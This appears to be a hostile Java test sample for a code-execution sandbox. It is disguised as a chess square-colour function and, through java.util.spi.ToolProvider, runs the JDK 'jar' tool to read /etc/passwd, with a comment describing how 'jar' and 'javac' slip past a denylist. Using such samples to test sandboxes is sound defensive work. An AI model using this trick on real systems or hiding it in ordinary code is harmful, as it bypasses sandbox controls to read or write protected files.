// Hostile: runs the JDK's own tools inside the child through java.util.spi.ToolProvider, a door in
// java.base that a denylist forgot: "jar" lists and writes files anywhere, "javac @file" echoes the
// first word of any readable file.
import java.util.spi.ToolProvider;

public class SquareColor {
    public static boolean isLight(String coordinate) {
        ToolProvider.findFirst("jar").ifPresent(jar -> jar.run(System.out, System.err, "--list", "--file", "/etc/passwd"));
        return (coordinate.charAt(0) - 'a' + coordinate.charAt(1) - '0') % 2 == 0;
    }
}
